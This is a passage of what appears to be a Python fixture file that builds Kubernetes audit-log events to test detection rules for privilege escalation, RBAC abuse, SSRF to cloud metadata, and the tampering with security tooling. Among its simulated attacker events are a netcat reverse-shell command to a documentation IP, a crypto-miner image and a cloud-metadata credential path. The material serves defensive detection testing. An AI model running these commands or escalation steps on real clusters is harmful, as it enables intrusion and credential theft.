   [ev("list", r, "default", user=dev("mallory"), t=8000 + i * 5) for i, r in enumerate(["namespaces", "pods", "roles", "configmaps", "serviceaccounts"])],
   [ev("list", r, "default", user=dev("mallory"), t=8000 + i * 30) for i, r in enumerate(["namespaces", "pods", "roles", "configmaps", "serviceaccounts"])])
fx("K8S-BURST-004",
   [ev("get" if i % 2 else "list", r, "kube-system", f"x{i}" if i % 2 else None, user=dev("mallory"), ips=[ATTACKER], t=9000 + i * 3,
       code=403 if i % 3 == 0 else 200) for i, r in enumerate(["secrets", "roles", "rolebindings", "clusterroles", "clusterrolebindings"] * 4)],
   [ev("list", "secrets", "kube-system", user=dev("mallory"), ips=[ATTACKER], t=9000 + i * 3, code=403) for i in range(20)])
fx("K8S-BURST-002",
   [ev("list", "secrets", f"ns{i}", user=dev("mallory"), code=403, t=10000 + i * 10) for i in range(20)],
   [ev("list", "secrets", f"ns{i}", user=dev("mallory"), code=403, t=10000 + i * 60) for i in range(20)])
fx("K8S-BURST-006",
   [ev("get", None, user={"username": "", "groups": []}, uri="/api/v1/secrets", code=401, ips=[ATTACKER], ua=CURL, t=11000 + i * 5) for i in range(20)],
   [ev("get", None, user={"username": "", "groups": []}, uri="/api/v1/secrets", code=401, ips=[ATTACKER], ua=CURL, t=11000 + i * 5) for i in range(19)])
fx("K8S-ANOM-009",
   [ev("get", "secrets", "payments", "db", user=dev("bob"), ua=KUBECTL, t=12000),
    ev("get", "secrets", "payments", "db", user=dev("bob"), ua="python-requests/2.31.0", t=12100)],
   [ev("get", "secrets", "payments", "db", user=dev("bob"), ua=KUBECTL, t=12000),
    ev("get", "secrets", "payments", "db", user=dev("bob"), ua=KUBECTL_MAC, t=12100)])
fx("K8S-ANOM-010",
   [ev("create", "pods", "web", None, sub="exec", user=sa("ci", "runner"), uri="/api/v1/namespaces/web/pods/web-0/exec?command=id", code=101)],
   [ev("get", "configmaps", "ci", "settings", user=sa("ci", "runner"))])

# ---------------- workloads ----------------
def mk(resource, ns, name, obj, user=None, verb="create", code=201, **kw):
    return ev(verb, resource, ns, name if verb != "create" else None, user=user or dev(), code=code, req=obj, resp=obj, **kw)

cni_pod = pod("kube-system", "aws-node-x7k2p", podspec(CNI_IMG, privileged=True, host={"hostNetwork": True},
              caps=["NET_ADMIN", "NET_RAW"], volumes=[hp("/var/run/aws-node", "run-dir"), hp("/run/xtables.lock", "xtables-lock")],
              ports=[{"containerPort": 61678, "hostPort": 61678, "name": "metrics"}]), owner="aws-node")
cni_create = ev("create", "pods", "kube-system", None, user=sa("kube-system", "daemon-set-controller"), code=201, req=cni_pod, resp=cni_pod)

fx("K8S-POD-001",
   [mk("deployments", "default", "ubuntu-privileged", deploy("default", "ubuntu-privileged",
        podspec("ubuntu", privileged=True, volumes=[hp("/etc", "host-etc")]))),
    mk("pods", "default", "priv", pod("default", "priv", podspec("alpine:3.19", privileged=True)))],
   [cni_create, mk("pods", "default", "web", pod("default", "web", podspec("nginx:1.25", sc={"privileged": False})))])
fx("K8S-POD-002",
   [mk("deployments", "default", "ubuntu-privileged", deploy("default", "ubuntu-privileged", podspec("ubuntu", privileged=True, volumes=[hp("/etc", "host-etc")]))),
    mk("pods", "default", "rootfs", pod("default", "rootfs", podspec("alpine:3.19", volumes=[hp("/")])))],
   [cni_create, mk("pods", "default", "logs", pod("default", "logs", podspec("fluent-bit:2.2", volumes=[hp("/var/lib/fluent-bit-state/")]))),
    mk("pods", "default", "etcx", pod("default", "etcx", podspec("alpine:3.19", volumes=[hp("/etcd-backup")])))])
fx("K8S-POD-003",
   [mk("pods", "default", "docker-sock", pod("default", "docker-sock", podspec("docker:24-cli", volumes=[hp("/var/run/docker.sock", "docker-sock")]))),
    mk("daemonsets", "default", "ctr", deploy("default", "ctr", podspec("alpine:3.19", volumes=[hp("/run/containerd/containerd.sock")]), kind="DaemonSet"))],
   [mk("pods", "default", "web", pod("default", "web", podspec("nginx", volumes=[hp("/var/run/app-data")])))])
fx("K8S-POD-004",
   [mk("pods", "default", "h", pod("default", "h", podspec("alpine:3.19", volumes=[hp("/data")])))],
   [mk("pods", "default", "e", pod("default", "e", podspec("alpine:3.19", volumes=[{"name": "cache", "emptyDir": {}}])))])
fx("K8S-POD-005",
   [mk("pods", "default", "hn", pod("default", "hn", podspec("alpine:3.19", host={"hostNetwork": True})))],
   [cni_create, mk("pods", "default", "hn", pod("default", "hn", podspec("alpine:3.19", host={"hostNetwork": False})))])
fx("K8S-POD-006",
   [mk("pods", "default", "hp", pod("default", "hp", podspec("alpine:3.19", host={"hostPID": True})))],
   [mk("pods", "default", "hp", pod("default", "hp", podspec("alpine:3.19", host={"hostPID": False})))])
fx("K8S-POD-007",
   [mk("pods", "default", "hi", pod("default", "hi", podspec("alpine:3.19", host={"hostIPC": True})))],
   [mk("pods", "default", "hi", pod("default", "hi", podspec("alpine:3.19")))])
fx("K8S-POD-008",
   [mk("pods", "default", "hport", pod("default", "hport", podspec("nginx", ports=[{"containerPort": 80, "hostPort": 80}])))],
   [cni_create, mk("pods", "default", "port", pod("default", "port", podspec("nginx", ports=[{"containerPort": 80}])))])
fx("K8S-POD-009",
   [mk("pods", "default", "cap", pod("default", "cap", podspec("alpine:3.19", caps=["NET_RAW"])))],
   [cni_create, mk("pods", "default", "cap", pod("default", "cap", podspec("alpine:3.19", caps=["NET_BIND_SERVICE"])))])
fx("K8S-POD-010",
   [mk("pods", "default", "cap", pod("default", "cap", podspec("alpine:3.19", caps=["SYS_ADMIN"])))],
   [mk("pods", "default", "cap", pod("default", "cap", podspec("alpine:3.19", caps=["NET_RAW"])))])
fx("K8S-POD-011",
   [mk("pods", "default", "w", pod("default", "w", podspec("alpine:3.19", sc={"allowPrivilegeEscalation": True}))),
    mk("pods", "default", "w2", pod("default", "w2", podspec("alpine:3.19", sc={"seccompProfile": {"type": "Unconfined"}})))],
   [mk("pods", "default", "w", pod("default", "w", podspec("alpine:3.19", sc={"allowPrivilegeEscalation": False, "seccompProfile": {"type": "RuntimeDefault"}})))])
fx("K8S-POD-012",
   [mk("pods", "kube-system", "nginx", pod("kube-system", "nginx", podspec("nginx")))],
   [ev("create", "pods", "kube-system", None, user=sa("kube-system", "replicaset-controller"), code=201,
       req=pod("kube-system", "coredns-5d78c9869d-2xk9p", podspec("coredns:1.11"), owner="coredns-5d78c9869d")),
    mk("pods", "default", "nginx", pod("default", "nginx", podspec("nginx")))])
fx("K8S-POD-013",
   [mk("pods", "kube-system", "kube-proxy-x7k2p", pod("kube-system", "kube-proxy-x7k2p", podspec("alpine:3.19"))),
    mk("pods", "default", "web-7c5ddbdf54-8xk2p", pod("default", "web-7c5ddbdf54-8xk2p", podspec("nginx")))],
   [ev("create", "pods", "default", None, user=sa("kube-system", "replicaset-controller"), code=201,
       req=pod("default", "web-7c5ddbdf54-8xk2p", podspec("nginx"), owner="web-7c5ddbdf54")),
    mk("pods", "default", "debug", pod("default", "debug", podspec("nginx")))])
fx("K8S-POD-014",
   [mk("pods", "kube-system", "helper", pod("kube-system", "helper", podspec("alpine:3.19", sa_name="replicaset-controller")))],
   [mk("pods", "kube-system", "helper", pod("kube-system", "helper", podspec("alpine:3.19", sa_name="helper")))])
fx("K8S-POD-015",
   [mk("deployments", "default", "miner", deploy("default", "miner", podspec("docker.io/metal3d/xmrig:latest")))],
   [mk("deployments", "default", "web", deploy("default", "web", podspec("nginx:1.25")))])
fx("K8S-POD-016",
   [mk("pods", "default", "rs", pod("default", "rs", podspec("alpine:3.19", cmd=["/bin/sh", "-c"], args=["nc 198.51.100.23 4444 -e /bin/sh"])))],
   [mk("pods", "default", "ok", pod("default", "ok", podspec("alpine:3.19", cmd=["/bin/sh", "-c"], args=["sleep 3600"])))])
fx("K8S-POD-017",
   [mk("deployments", "default", "web", deploy("default", "web", podspec("nginx:1.25")))],
   [ev("create", "replicasets", "default", None, user=sa("kube-system", "deployment-controller"), code=201, req=deploy("default", "web-7c5ddbdf54", podspec("nginx:1.25"), kind="ReplicaSet"))])
fx("K8S-POD-018",
   [mk("cronjobs", "default", "backup", cronjob("default", "backup", podspec("alpine:3.19", cmd=["sh", "-c", "tar czf - /data"])))],
   [mk("deployments", "default", "web", deploy("default", "web", podspec("nginx:1.25")))])
fx("K8S-POD-019",
   [ev("patch", "deployments", "default", "web", user=dev(), req={"spec": {"template": {"spec": {"containers": [{"name": "sidecar", "image": "alpine:3.19"}]}}}},
       resp=deploy("default", "web", podspec("nginx:1.25", extra_containers=[{"name": "sidecar", "image": "alpine:3.19"}])))],
   [ev("patch", "deployments", "default", "web", sub="scale", user=dev(), req={"spec": {"replicas": 3}}),
    ev("patch", "deployments", "default", "web", user=sa("argo", "argocd-application-controller"), req={"metadata": {"labels": {"x": "y"}}})] )
fx("K8S-SSRF-001",
   [spoof("10.0.12.5", 20000)],
   [ev("patch", "pods", "default", "web-0", sub="status", user=NODE, req={"status": {"podIP": "192.168.3.4"}}, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f")])
fx("K8S-SSRF-003",
   [spoof("169.254.169.254", 21000)],
   [spoof("10.0.12.5", 21000)])
fx("K8S-POD-020",
   [ev("create", "pods", "kube-system", None, user=NODE, code=201, req=pod("kube-system", "backdoor-ip-192-168-12-34.us-west-2.compute.internal", podspec("alpine:3.19"), annotations={"kubernetes.io/config.mirror": "6c0a3f2e", "kubernetes.io/config.source": "file"}))],
   [ev("create", "pods", "kube-system", None, user=sa("kube-system", "daemon-set-controller"), code=201, req=pod("kube-system", "kube-proxy-x7k2p", podspec("kube-proxy"), owner="kube-proxy"))])
fx("K8S-POD-021",
   [ev("create", "nodes", user=NODE, code=201, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f", req={"kind": "Node", "metadata": {"name": "ip-192-168-99-1.us-west-2.compute.internal"}})],
   [ev("create", "nodes", user=NODE, code=409, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f")])
fx("K8S-POD-022",
   [ev("create", "nodes", user=dev(), code=403)],
   [ev("create", "nodes", user=NODE, code=201, ua="kubelet/v1.29.0 (linux/amd64) kubernetes/3f7a50f")])
fx("K8S-SEQ-001",
   [mk("clusterroles", None, "pwn", role("ClusterRole", "pwn", [rule(["*"], ["*"], ["*"])]), user=dev("mallory"), t=30000),
    mk("daemonsets", "default", "agent", deploy("default", "agent", podspec("alpine:3.19"), kind="DaemonSet"), user=dev("mallory"), t=30120)],
   [mk("clusterroles", None, "pwn", role("ClusterRole", "pwn", [rule(["*"], ["*"], ["*"])]), user=dev("mallory"), t=30000),
    mk("daemonsets", "default", "agent", deploy("default", "agent", podspec("alpine:3.19"), kind="DaemonSet"), user=dev("mallory"), t=30000 + 3600)])
fx("K8S-ANOM-004",
   [mk("pods", "default", "priv", pod("default", "priv", podspec("alpine:3.19", privileged=True)))],
   [cni_create])
fx("K8S-ANOM-005",
   [mk("pods", "default", "etc", pod("default", "etc", podspec("alpine:3.19", volumes=[hp("/etc/kubernetes")])))],
   [mk("pods", "default", "data", pod("default", "data", podspec("alpine:3.19", volumes=[hp("/mnt/data")])))])
fx("K8S-ANOM-006",
   [mk("deployments", "default", "web", deploy("default", "web", podspec("nginx:1.25")), user=dev("mallory"))],
   [ev("create", "replicasets", "default", None, user=sa("kube-system", "deployment-controller"), code=201, req=deploy("default", "web-7c5ddbdf54", podspec("nginx:1.25"), kind="ReplicaSet"))])

# ---------------- services ----------------
fx("K8S-SVC-001",
   [mk("services", "default", "web", svc("default", "web", "NodePort"))],
   [mk("services", "default", "web", svc("default", "web"))])
fx("K8S-SVC-002",
   [ev("patch", "services", "default", "web", user=dev(), req={"spec": {"type": "LoadBalancer"}}, resp=svc("default", "web", "LoadBalancer"))],
   [ev("patch", "services", "default", "web", user=dev(), req={"metadata": {"labels": {"tier": "web"}}}, resp=svc("default", "web", "LoadBalancer"))])
fx("K8S-SVC-003",
   [ev("patch", "services", "kubernetes-dashboard", "kubernetes-dashboard", user=dev(), req={"spec": {"type": "LoadBalancer"}},
       resp=svc("kubernetes-dashboard", "kubernetes-dashboard", "LoadBalancer", selector={"k8s-app": "kubernetes-dashboard"}))],
   [ev("patch", "services", "kubernetes-dashboard", "kubernetes-dashboard", user=dev(), req={"metadata": {"annotations": {"a": "b"}}},
       resp=svc("kubernetes-dashboard", "kubernetes-dashboard", selector={"k8s-app": "kubernetes-dashboard"})),
    mk("services", "web", "web", svc("web", "web", "LoadBalancer"))])
fx("K8S-SVC-004",
   [ev("patch", "services", "istio-system", "istio-ingressgateway", user=dev(), req={"spec": {"type": "LoadBalancer"}}, resp=svc("istio-system", "istio-ingressgateway", "LoadBalancer"))],
   [mk("services", "web", "web", svc("web", "web", "LoadBalancer"))])
fx("K8S-SVC-005",
   [mk("services", "cache", "redis", svc("cache", "redis", "LoadBalancer", ports=[{"port": 6379}]))],
   [mk("services", "cache", "redis", svc("cache", "redis", "LoadBalancer", ports=[{"port": 6379}], extra={"loadBalancerSourceRanges": ["203.0.113.0/24"]})),
    mk("services", "web", "web", svc("web", "web", "LoadBalancer", ports=[{"port": 443}]))])
fx("K8S-SVC-006",
   [mk("services", "default", "mitm", svc("default", "mitm", extra={"externalIPs": ["23.185.0.3"]}))],
   [mk("services", "default", "web", svc("default", "web"))])
fx("K8S-SVC-007",
   [ev("patch", "services", "default", "mitm", sub="status", user=dev(), req={"status": {"loadBalancer": {"ingress": [{"ip": "23.185.0.3"}]}}})],
   [ev("patch", "services", "default", "web", sub="status", user=sa("kube-system", "service-controller"), req={"status": {"loadBalancer": {"ingress": [{"hostname": "a1b2.elb.us-west-2.amazonaws.com"}]}}})])
ing = lambda tls: {"kind": "Ingress", "apiVersion": "networking.k8s.io/v1", "metadata": {"name": "web", "namespace": "default"},
                   "spec": dict({"rules": [{"host": "shop.example.com"}]}, **({"tls": [{"hosts": ["shop.example.com"], "secretName": "shop-tls"}]} if tls else {}))}
fx("K8S-SVC-008", [mk("ingresses", "default", "web", ing(False))], [mk("ingresses", "default", "web", ing(True))])

# ---------------- RBAC ----------------
def mkb(res, ns, b, verb="create", user=None, code=201, resp=None):
    return ev(verb, res, ns, None if verb == "create" else b["metadata"]["name"], user=user or dev("mallory"), code=code if verb == "create" else 200,
              req=b, resp=resp or b)
anon_crb = binding("ClusterRoleBinding", "cluster-system-anonymous", "cluster-admin", [subj("User", "system:anonymous")])
fx("K8S-RBAC-001",
   [mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "pwn", "cluster-admin", [subj("User", "mallory")]))],
   [mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "view", "view", [subj("User", "bob")])),
    mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "pwn", "cluster-admin", [subj("User", "mallory")]), code=403)])
fx("K8S-RBAC-002",
   [mkb("rolebindings", "default", binding("RoleBinding", "sa-default-admin", "cluster-admin", [subj("ServiceAccount", "default", "default")], ns="default")),
    ev("patch", "clusterrolebindings", None, "cluster-admin", user=dev("mallory"),
       req={"subjects": [{"kind": "Group", "name": "system:masters"}, {"kind": "ServiceAccount", "name": "default", "namespace": "kube-system"}]},
       resp=binding("ClusterRoleBinding", "cluster-admin", "cluster-admin", [subj("Group", "system:masters"), subj("ServiceAccount", "default", "kube-system")]))],
   [mkb("rolebindings", "default", binding("RoleBinding", "sa-default-view", "view", [subj("ServiceAccount", "default", "default")], ns="default")),
    mkb("rolebindings", "default", binding("RoleBinding", "ci-admin", "admin", [subj("ServiceAccount", "ci", "default")], ns="default"))])
fx("K8S-RBAC-003",
   [mkb("clusterrolebindings", None, anon_crb),
    mkb("rolebindings", "default", binding("RoleBinding", "unauth-view", "view", [subj("Group", "system:unauthenticated")], ns="default"))],
   [mkb("clusterrolebindings", None, anon_crb, code=403),
    mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "x", "view", [subj("User", "anonymous-user")]))])
fx("K8S-RBAC-004",
   [mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "all-edit", "edit", [subj("Group", "system:authenticated")]))],
   [mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "disc", "system:discovery", [subj("Group", "system:authenticated")]))])
fx("K8S-RBAC-005",
   [mkb("rolebindings", "ci", binding("RoleBinding", "ci-deployer", "edit", [subj("ServiceAccount", "deployer", "ci")], ns="ci"))],
   [mkb("rolebindings", "ci", binding("RoleBinding", "ci-devs", "edit", [subj("Group", "developers")], ns="ci"))])
fx("K8S-RBAC-006",
   [ev("delete", "clusterrolebindings", None, "eks-admins", user=dev("mallory"))],
   [ev("delete", "clusterrolebindings", None, "eks-admins", user=KCM)])
fx("K8S-RBAC-007",
   [mkb("clusterroles", None, role("ClusterRole", "pwn", [rule(["*"], ["*"], ["*"])]))],
   [mkb("clusterroles", None, role("ClusterRole", "reader", [rule([""], ["pods"], ["get", "list"])]))])
fx("K8S-RBAC-008",
   [mkb("clusterroles", None, role("ClusterRole", "imp", [rule([""], ["users", "groups"], ["impersonate"])])),
    mkb("roles", "default", role("Role", "bind", [rule(["rbac.authorization.k8s.io"], ["rolebindings"], ["bind", "escalate"])], ns="default"))],
   [mkb("roles", "default", role("Role", "bind", [rule(["rbac.authorization.k8s.io"], ["rolebindings"], ["get"])], ns="default"))])
fx("K8S-RBAC-009",
   [mkb("roles", "default", role("Role", "exec", [rule([""], ["pods/exec"], ["create"])], ns="default"))],
   [mkb("roles", "default", role("Role", "logs", [rule([""], ["pods/log"], ["get"])], ns="default"))])
fx("K8S-RBAC-010",
   [mkb("clusterroles", None, role("ClusterRole", "np", [rule([""], ["nodes/proxy"], ["get"])]))],
   [mkb("clusterroles", None, role("ClusterRole", "nodes", [rule([""], ["nodes"], ["get"])]))])
fx("K8S-RBAC-011",
   [mkb("clusterroles", None, role("ClusterRole", "csi-token", [rule([""], ["serviceaccounts/token"], ["create"])]))],
   [mkb("clusterroles", None, role("ClusterRole", "sa-read", [rule([""], ["serviceaccounts"], ["get"])]))])
fx("K8S-RBAC-012",
   [mkb("roles", "payments", role("Role", "secret-reader", [rule([""], ["secrets"], ["get", "list"])], ns="payments"))],
   [mkb("roles", "payments", role("Role", "cm-reader", [rule([""], ["configmaps"], ["get", "list"])], ns="payments"))])
fx("K8S-RBAC-013",
   [mkb("roles", "default", role("Role", "deployer", [rule(["apps"], ["deployments"], ["create", "update", "patch"])], ns="default"))],
   [mkb("roles", "default", role("Role", "viewer", [rule(["apps"], ["deployments"], ["get", "list"])], ns="default"))])
fx("K8S-RBAC-014",
   [ev("patch", "clusterroles", None, "view", user=dev("mallory"), req={"rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]},
       resp=role("ClusterRole", "view", [rule(["*"], ["*"], ["*"])]))],
   [ev("patch", "clusterroles", None, "view", user=dev("mallory"), req={"metadata": {"labels": {"a": "b"}}}, resp=role("ClusterRole", "view", [rule([""], ["pods"], ["get"])]))])
fx("K8S-RBAC-015",
   [ev("patch", "clusterroles", None, "system:node", user=dev("mallory"), req={"rules": []}, resp=role("ClusterRole", "system:node", []))],
   [ev("patch", "clusterroles", None, "system:coredns", user=dev("mallory"), req={"rules": []}, resp=role("ClusterRole", "system:coredns", [])),
    ev("update", "clusterroles", None, "system:aggregate-to-view", user=sa("kube-system", "clusterrole-aggregation-controller").copy() | {"username": "system:serviceaccount:kube-system:clusterrole-aggregation-controller"}, req={"rules": []})])
fx("K8S-RBAC-016",
   [mkb("clusterrolebindings", None, binding("ClusterRoleBinding", "x", "cluster-admin", [subj("User", "mallory")]), user=sa("ci", "runner"))],
   [ev("update", "clusterroles", None, "admin", user={"username": "system:serviceaccount:kube-system:clusterrole-aggregation-controller", "groups": ["system:serviceaccounts"]}, req={"rules": []})])
fx("K8S-RBAC-017",
   [ev("list", "secrets", "kube-system", user=dev("mallory"), imp={"username": "system:admin", "groups": ["system:masters"]})],
   [ev("list", "pods", "default", user=dev("mallory"), imp={"username": "bob", "groups": ["developers"]})])
fx("K8S-RBAC-018",
   [ev("list", "pods", "default", user=dev("mallory"), imp={"username": "bob", "groups": ["developers"]})],
   [ev("list", "pods", "default", user=dev("mallory"))])
fx("K8S-RBAC-019",
   [ev("list", "pods", "default", user=dev("mallory"), code=403, status='users "system:admin" is forbidden: User "mallory" cannot impersonate resource "users" in API group "" at the cluster scope')],
   [ev("list", "pods", "default", user=dev("mallory"), code=403)])
fx("K8S-ANOM-002",
   [mkb("rolebindings", "default", binding("RoleBinding", "sa-default-admin", "cluster-admin", [subj("ServiceAccount", "default", "default")], ns="default"))],
   [mkb("rolebindings", "default", binding("RoleBinding", "viewers", "view", [subj("Group", "developers")], ns="default"))])
fx("K8S-ANOM-007",
   [mkb("clusterroles", None, role("ClusterRole", "pwn", [rule(["*"], ["*"], ["*"])]))],
   [mkb("clusterroles", None, role("ClusterRole", "reader", [rule([""], ["pods"], ["get"])]))])

# ---------------- cluster configuration ----------------
MAPROLES_OLD = "- rolearn: arn:aws:iam::111122223333:role/eks-node-role\n  username: system:node:{{EC2PrivateDNSName}}\n  groups:\n    - system:bootstrappers\n    - system:nodes\n"
MAPROLES_NEW = MAPROLES_OLD + "- rolearn: arn:aws:iam::444455556666:role/OrganizationAccountAccessRole\n  username: admin\n  groups:\n    - system:masters\n"
def awsauth(verb, maproles, t=None, user=None):
    cm = {"kind": "ConfigMap", "apiVersion": "v1", "metadata": {"name": "aws-auth", "namespace": "kube-system"}, "data": {"mapRoles": maproles}}
    return ev(verb, "configmaps", "kube-system", "aws-auth", user=user or human(), req=cm, resp=cm, t=t)
fx("K8S-EKS-001", [awsauth("update", MAPROLES_NEW)],
   [awsauth("update", MAPROLES_NEW, user={"username": "eks:kms-storage-migrator", "groups": ["system:authenticated"]}),
    ev("get", "configmaps", "kube-system", "aws-auth")])
fx("K8S-EKS-002", [awsauth("update", MAPROLES_OLD, t=40000), awsauth("update", MAPROLES_NEW, t=40100)],
   [awsauth("update", MAPROLES_OLD, t=40000), awsauth("patch", MAPROLES_OLD + "- rolearn: arn:aws:iam::111122223333:role/dev\n  username: dev\n  groups:\n    - developers\n", t=40100)])
fx("K8S-EKS-003", [ev("update", "configmaps", "kube-system", "coredns", user=dev("mallory"))],
   [ev("update", "configmaps", "kube-system", "coredns", user={"username": "eks:addon-manager", "groups": ["system:authenticated"]})])
whc = {"kind": "MutatingWebhookConfiguration", "metadata": {"name": "inject"}, "webhooks": [{"name": "inject.example.com", "clientConfig": {"url": "https://198.51.100.23/mutate"}}]}
fx("K8S-EKS-004", [mkb("mutatingwebhookconfigurations", None, whc)],
   [mkb("mutatingwebhookconfigurations", None, whc, user={"username": "system:serviceaccount:cert-manager:cert-manager-cainjector", "groups": []})])
fx("K8S-EKS-005", [ev("delete", "validatingwebhookconfigurations", None, "gatekeeper-validating-webhook-configuration", user=dev("mallory"))],
   [ev("delete", "validatingwebhookconfigurations", None, "my-app-webhook", user=dev("mallory"))])
fx("K8S-EKS-006", [mkb("apiservices", None, {"kind": "APIService", "metadata": {"name": "v1beta1.evil.example.com"}, "spec": {"service": {"name": "evil", "namespace": "default"}, "insecureSkipTLSVerify": True, "group": "evil.example.com"}})],
   [ev("update", "apiservices", None, "v1.apps", user={"username": "system:apiserver", "groups": ["system:masters"]}, req={})])
fx("K8S-EKS-007", [mkb("customresourcedefinitions", None, {"kind": "CustomResourceDefinition", "metadata": {"name": "widgets.example.com"}})],
   [mkb("customresourcedefinitions", None, {"kind": "CustomResourceDefinition", "metadata": {"name": "widgets.example.com"}}, user={"username": "eks:addon-manager", "groups": []})])
fx("K8S-EKS-008", [ev("create", "serviceaccounts", "default", None, user=dev(), code=201)],
   [ev("create", "serviceaccounts", "default", "default", sub="token", user=dev(), code=201)])
fx("K8S-EKS-009", [ev("create", "serviceaccounts", "kube-system", "backup-operator", user=dev(), code=201, uri="/api/v1/namespaces/kube-system/serviceaccounts")],
   [ev("create", "serviceaccounts", "kube-system", "coredns", user=dev(), code=201, uri="/api/v1/namespaces/kube-system/serviceaccounts")])
fx("K8S-EKS-010", [ev("create", "namespaces", user=dev(), code=201, req={"kind": "Namespace", "metadata": {"name": "tools"}})],
   [ev("create", "namespaces", user=dev(), code=409)])
fx("K8S-EKS-011", [ev("delete", "namespaces", None, "payments", user=dev("mallory"))],
   [ev("delete", "namespaces", None, "payments", user={"username": "system:serviceaccount:kube-system:namespace-controller", "groups": []})])
fx("K8S-EKS-012", [ev("delete", "deployments", "payments", "api", user=dev("mallory"))],
   [ev("delete", "pods", "payments", "api-0", user=dev("mallory"))])
fx("K8S-BURST-005", [ev("delete", "deployments", "payments", f"svc-{i}", user=dev("mallory"), t=50000 + i * 10) for i in range(10)],
   [ev("delete", "deployments", "payments", f"svc-{i}", user=dev("mallory"), t=50000 + i * 10) for i in range(9)])
fx("K8S-EKS-013", [ev("deletecollection", "events", "default", user=dev("mallory"), uri="/api/v1/namespaces/default/events")],
   [ev("list", "events", "default", user=dev("mallory"))])
fx("K8S-EKS-014", [ev("delete", "daemonsets", "amazon-guardduty", "aws-guardduty-agent", user=dev("mallory")),
                   ev("delete", "networkpolicies", "payments", "deny-all", user=dev("mallory"))],
   [ev("delete", "daemonsets", "web", "log-shipper", user=dev("mallory"))])
fx("K8S-GEN-001", [ev("create", "configmaps", "default", None, user=dev(), code=201)],
   [ev("create", "pods", "default", None, user=dev(), code=201)])

fx("K8S-GEN-002", [ev("list", "pods", "default", user=human(), ips=[OFFICE]), ev("list", "pods", "default", user=human(), ips=[ATTACKER])],
   [ev("list", "pods", "default", user=dev())])

fx("K8S-GEN-003", [ev("list", "pods", "default", user=dev("carol")), ev("get", "pods", "default", "web-0", user=dev("carol")),
                   ev("list", "pods", "default", user=dev("dave"))],
   [ev("list", "pods", "default", user=human()), ev("list", "pods", "default", user=sa("web", "frontend")),
    ev("list", "pods", "default", user=KCM)])

fx("K8S-SECRET-015", [ev("create", "serviceaccounts", "payments", "default", sub="token", user=sa("storage", "secrets-store-csi-driver", pod="csi-secrets-store-x7k2p"), code=201, ua="secrets-store-csi-driver/v1.4.0")],
   [ev("create", "serviceaccounts", "storage", "reader", sub="token", user=sa("storage", "secrets-store-csi-driver"), code=201),
    ev("create", "serviceaccounts", "payments", "default", sub="token", user=dev(), code=201)])

# Status writes log the whole object in responseObject, spec included, but
# cannot change the spec: the kubelet's pods/status patch of a privileged
# pod, or the deployment controller's status update, is not a new one.
# (Added after the other fixtures, so their ids and times stay as they were.)
KUBELET = "kubelet/v1.29.3 (linux/amd64) kubernetes/6813625"
DEPLOY_CTRL = sa("kube-system", "deployment-controller")
def status_write(e):
    obj = e.get("requestObject") or e.get("responseObject")
    ref = e["objectRef"]
    res, ns, name = ref["resource"], ref.get("namespace"), ref.get("name") or obj["metadata"]["name"]
    if res == "pods":
        st = {"status": {"phase": "Running", "conditions": [{"type": "Ready", "status": "True"}]}}
        return ev("patch", res, ns, name, sub="status", user=NODE, ua=KUBELET, ips=["192.168.12.34"],
                  req=st, resp=dict(obj, **st))
    st = {"status": {"observedGeneration": 2, "replicas": 1, "readyReplicas": 1}}
    return ev("update", res, ns, name, sub="status", user=DEPLOY_CTRL,
              ua="kube-controller-manager/v1.29.3 (linux/amd64) kubernetes/6813625/system:serviceaccount:kube-system:deployment-controller",
              ips=["192.168.0.10"], req=dict(obj, **st), resp=dict(obj, **st))
for rid in ("K8S-POD-001", "K8S-POD-002", "K8S-POD-003", "K8S-POD-005", "K8S-POD-006", "K8S-POD-007",
            "K8S-POD-008", "K8S-POD-009", "K8S-POD-010", "K8S-POD-011", "K8S-POD-015", "K8S-POD-016",
            "K8S-ANOM-004", "K8S-ANOM-005", "K8S-ANOM-006"):
    F[rid][1].extend(status_write(e) for e in F[rid][0] if "objectRef" in e and
                     (e.get("requestObject") or e.get("responseObject") or {}).get("spec"))

# The SSRF chain through services/proxy: a Service in the spoofed pod's
# namespace whose selector (learned from Service writes, the last one by
# time) matches the labels the status write logged; one whose selector is
# not in the input may select the pod.  (Appended, as above.)
def labelled_spoof(name, labels, ip, t, u=None):
    p = pod("default", name, podspec())
    p["metadata"]["labels"] = labels
    return ev("patch", "pods", "default", name, sub="status", user=u or dev(), t=t,
              req={"status": {"podIP": ip, "podIPs": [{"ip": ip}]}},
              resp=p | {"status": {"podIP": ip, "podIPs": [{"ip": ip}], "phase": "Running"}})
def svc_proxy(ns, target, t, user=None, path="/", code=200):
    return ev("get", "services", ns, target, sub="proxy", t=t, user=user or dev(), code=code,
              uri=f"/api/v1/namespaces/{ns}/services/{target}/proxy{path}")
F["K8S-SSRF-002"][0].extend([
    mk("services", "default", "web", svc("default", "web"), t=5000),
    labelled_spoof("web-0", {"app": "web", "pod-template-hash": "7c5ddbdf54"}, "192.168.12.34", 6000, u=dev("mallory")),
    svc_proxy("default", "https:web:443", 6100, path="/latest/meta-data/iam/security-credentials/"),
    labelled_spoof("api-0", {"app": "api"}, "10.0.5.17", 9000),
    svc_proxy("default", "api:http", 9100, path="/admin"),
    # a name holding "proxy" (JupyterHub's proxy-public): the path is what follows "<name>/proxy"
    mk("services", "default", "proxy-public", svc("default", "proxy-public", selector={"component": "proxy"}), t=11000),
    labelled_spoof("proxy-7d9f6c8b5-q2xkz", {"component": "proxy"}, "192.168.40.2", 12000),
    svc_proxy("default", "http:proxy-public:80", 12100, path="/hub/api")])
F["K8S-SSRF-002"][1].extend([
    mk("services", "default", "web", svc("default", "web"), t=20000),
    mk("services", "default", "db", svc("default", "db"), t=20010),
    # the later patch (first in the file) moved the selector off the pod
    ev("patch", "services", "default", "cache", user=dev(), t=20050, req={"spec": {"selector": {"app": "cache"}}},
       resp=svc("default", "cache", selector={"app": "cache"})),
    mk("services", "default", "cache", svc("default", "cache", selector={"app": "web"}), t=20020),
    labelled_spoof("web-0", {"app": "web"}, "169.254.169.254", 20100),
